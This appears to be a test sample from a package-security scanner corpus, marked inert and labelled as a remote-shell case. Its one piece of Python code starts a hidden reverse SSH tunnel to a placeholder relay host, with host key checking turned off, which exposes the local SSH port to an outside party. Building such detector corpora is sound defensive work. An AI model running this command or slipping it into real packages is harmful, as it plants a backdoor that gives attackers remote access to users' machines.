# pkgguard corpus 188 (remote-shell), modelled on [developer-persistence]; inert, never run.
import subprocess

subprocess.Popen([
    "ssh", "-o", "StrictHostKeyChecking=no", "-o", "ServerAliveInterval=30",
    "-N", "-f", "-R", "2222:localhost:22", "tunnel@relay.example",
])
